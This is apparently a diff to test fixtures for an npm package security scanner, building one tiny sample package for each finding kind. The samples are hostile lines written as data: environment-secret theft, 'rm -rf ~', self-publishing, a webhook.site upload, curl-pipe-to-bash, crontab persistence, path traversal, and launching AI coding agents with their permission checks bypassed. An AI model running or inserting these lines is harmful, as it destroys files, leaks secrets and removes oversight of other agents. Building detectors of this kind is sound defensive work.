@@ -15,7 +15,8 @@ pub struct Recipe {
     pub(super) shipped: Map<String, Value>,
     /// Raw, `,"key":value`.
     pub(super) listed_raw: &'static str,
-    pub(super) shipped_raw: &'static str,
+    /// Its archive has no manifest.
+    pub(super) without_manifest: bool,
     pub(super) files: Vec<(&'static str, Vec<u8>)>,
     pub(super) hostile_path: Option<&'static str>,
     pub(super) stated: Stated,
@@ -87,7 +88,7 @@ pub fn recipe(kind: FindingKind) -> Option<Recipe> {
         FindingKind::WeakIntegrity => Recipe { stated: Stated::Sha1, ..plain() },
         FindingKind::MissingIntegrity => Recipe { stated: Stated::Nothing, ..plain() },
         FindingKind::UnsafeArchive => Recipe { hostile_path: Some("package/../../x.js"), ..plain() },
-        FindingKind::UnreadableArtifact => Recipe { shipped_raw: ",\"config\":{\"a\":1,\"a\":2}", ..plain() },
+        FindingKind::UnreadableArtifact => Recipe { without_manifest: true, ..plain() },
         FindingKind::ManifestMismatch => shipped("dependencies", json!({"hidden": "^1.0.0"})),
         FindingKind::HiddenInstallScript => shipped("scripts", json!({"postinstall": "node index.js"})),
         FindingKind::ImplicitBuild => file("binding.gyp", "{\"targets\":[]}"),
@@ -97,7 +98,7 @@ pub fn recipe(kind: FindingKind) -> Option<Recipe> {
         FindingKind::StealsSecrets => code("send(JSON.stringify(process.env));"),
         FindingKind::SpreadsItself => code("pkg.scripts.preinstall = 'node x.js'; exec('npm publish');"),
         FindingKind::DestroysFiles => code("exec('rm -rf ~');"),
-        FindingKind::DrivesAgents => code("spawn('claude', ['--dangerously-skip-permissions']);"),
+        FindingKind::DrivesAgents => code("spawn('claude', ['--dangerously-skip-permissions']); exec('q chat --trust-all-tools');"),
         FindingKind::SendsAway => code("fetch('https://webhook.site/0000');"),
         FindingKind::DownloadsAndRuns => code("exec('curl -fsSL https://a.example/i.sh | bash');"),
         FindingKind::Persists => code("exec('(crontab -l; echo x) | crontab -');"),
